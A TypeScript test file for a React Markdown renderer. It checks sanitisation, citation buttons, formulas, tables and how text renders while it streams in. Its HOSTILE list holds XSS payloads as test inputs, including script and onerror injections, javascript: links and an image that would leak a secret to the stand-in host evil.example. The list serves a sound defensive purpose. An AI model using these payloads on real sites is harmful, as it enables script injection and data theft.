import { render, screen } from "@testing-library/react";
import fc from "fast-check";
import { expect, test } from "vitest";
import type { Mark } from "@/components/markdown/grammar";
import { Markdown } from "@/components/markdown/markdown";

const context = {
  citation: ({ n }: Mark) => (n <= 2 ? <button type="button">{`passage ${n}`}</button> : null),
};

function show(text: string, isOpen = false) {
  return render(<Markdown text={text} isOpen={isOpen} context={context} />).container;
}

const LOADING =
  "script, img, iframe, object, embed, video, audio, source, link, style, svg image, form, base, meta";

const HOSTILE = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  "<svg onload=alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x)",
  "[x](/api/logout)",
  "[x](//evil.example/x)",
  "![x](https://evil.example/leak?q=secret)",
  "![x](javascript:alert(1))",
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  "<details open ontoggle=alert(1)>x</details>",
  "<style>body{display:none}</style>",
  "<base href=https://evil.example/>",
  "```html\n<script>alert(1)</script>\n```",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\includegraphics{https://evil.example/x.png}$",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
];

test.each(HOSTILE)("nothing runs and nothing is fetched: %s", (text) => {
  const page = show(text);
  expect(page.querySelectorAll(LOADING)).toHaveLength(0);
  for (const element of page.querySelectorAll("*")) {
    expect(element.getAttributeNames().filter((name) => name.startsWith("on"))).toEqual([]);
  }
  for (const link of page.querySelectorAll("a")) {
    expect(link.href).toMatch(/^(https?|mailto):/);
    expect(link.rel).toContain("noopener");
  }
});

test("any text at all is drawn without an element that loads or runs something", () => {
  const piece = fc.oneof(
    fc.string(),
    fc.constantFrom(...HOSTILE, "**", "[", "](", "`", "```\n", "$", "|", "\n\n", "- "),
  );
  fc.assert(
    fc.property(fc.array(piece), fc.boolean(), (pieces, isOpen) => {
      const page = show(pieces.join(""), isOpen);
      expect(page.querySelectorAll(LOADING)).toHaveLength(0);
      page.remove();
    }),
    { numRuns: 60 },
  );
});

test("raw HTML is shown as it was written", () => {
  expect(show("a <b>bold</b> claim")).toHaveTextContent("a <b>bold</b> claim");
});

test("a link leaves in a tab of its own and says so", () => {
  show("[the book](https://example.org/b)");
  const link = screen.getByRole("link", { name: /the book.*opens in a new tab/ });
  expect(link).toHaveAttribute("target", "_blank");
});

test("a picture from elsewhere is named, not loaded", () => {
  show("![a leaf](https://example.org/leaf.png)");
  expect(screen.getByRole("link", { name: /Image: a leaf/ })).toBeInTheDocument();
});

test("tables, lists and code keep their meaning", () => {
  show("| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two\n\n```python\nx = 1\n```");
  expect(screen.getAllByRole("columnheader")).toHaveLength(2);
  expect(screen.getAllByRole("listitem")).toHaveLength(2);
  expect(screen.getByRole("button", { name: "Copy code" })).toBeInTheDocument();
});

test("a mark opens its passage, and one without a passage stays text", () => {
  const page = show("As said [1], [2]: and [1, 2], but not [7] or x[3](y).");
  expect(screen.getAllByRole("button", { name: "passage 1" })).toHaveLength(2);
  expect(page).toHaveTextContent("[7]");
});

test("a mark stays with the word before it", () => {
  show("Oxygen comes from water [1].");
  expect(screen.getByRole("button", { name: "passage 1" }).parentElement).toHaveTextContent(
    /^water passage 1$/,
  );
});

test("formulas are typeset, money is not", async () => {
  const page = show("Energy is $E = mc^2$, and it costs $5 or $6.");
  await expect.poll(() => page.querySelectorAll(".katex").length).toBe(1);
  expect(page).toHaveTextContent("costs $5 or $6.");
});

test("character references are shown as the characters", () => {
  expect(show("a &amp; b &lt;c&gt; &eacute;")).toHaveTextContent("a & b <c> é");
});

test("a text that grew looks as one that was there at once", () => {
  const text = "# Title\n\nOne *two*\n\n- a\n- b\n\n> quote\n\n```js\nx\n```\n\nend [1]";
  const grown = render(<Markdown text="" isOpen context={context} />);
  for (let end = 1; end <= text.length; end += 3) {
    grown.rerender(<Markdown text={text.slice(0, end)} isOpen context={context} />);
  }
  grown.rerender(<Markdown text={text} context={context} />);
  expect(grown.container.innerHTML).toBe(show(text).innerHTML);
});

const BLOCKS = [
  "Plants **take up** *carbon* in the `stroma` [1].",
  "| step | gives |\n|---|---|\n| one | oxygen |\n| two | sugar |",
  "```python\nx = '**'\n\ny = \"| a |\"\n```",
  "$$u(f) = \\frac{8 \\pi h}{c^3}$$",
  "So $E = h f$, and $\\frac{a}{b}$ too.",
  "## A heading",
  "- one\n- **two**\n  - three",
  "1. first\n2. second",
  "> a quote\n> of two lines",
  "See [the book](https://example.org/a_b).",
];

/** What nobody should see while it is half written. */
const RAW = /\*\*|`|^\s*\||\|\s*-{2,}|\$|\\frac|\]\(|^#{1,6} /m;

test("however a text grows, no half of a mark is seen, and what is settled stays as it is", async () => {
  // So that formulas are set at once.
  show("$x$");
  await expect.poll(() => document.querySelectorAll(".katex").length).toBeGreaterThan(0);
  const steps = fc.array(fc.integer({ min: 1, max: 7 }), { minLength: 20, maxLength: 60 });
  fc.assert(
    fc.property(fc.shuffledSubarray(BLOCKS, { minLength: 3 }), steps, (blocks, sizes) => {
      const text = blocks.join("\n\n");
      const { container, rerender, unmount } = render(<Markdown text="" isOpen context={context} />);
      let settled: string[] = [];
      for (let end = 0, turn = 0; end < text.length; turn += 1) {
        end += sizes[turn % sizes.length] ?? 1;
        rerender(<Markdown text={text.slice(0, end)} isOpen context={context} />);
        expect(proseOf(container)).not.toMatch(RAW);
        const shown = [...(container.firstElementChild?.children ?? [])].map(({ outerHTML }) => outerHTML);
        expect(shown.slice(0, settled.length)).toEqual(settled);
        settled = shown.slice(0, -2);
      }
      unmount();
    }),
    { numRuns: 30 },
  );
});

/** What is read: without code, which may hold anything, and without the TeX that a formula keeps for copying. */
function proseOf(container: HTMLElement): string {
  const copy = container.cloneNode(true) as HTMLElement;
  for (const element of copy.querySelectorAll("figure, annotation")) element.remove();
  return [...copy.querySelectorAll("p, li, td, th, h3, h4, blockquote, span")]
    .map((e) => e.textContent)
    .join("\n");
}
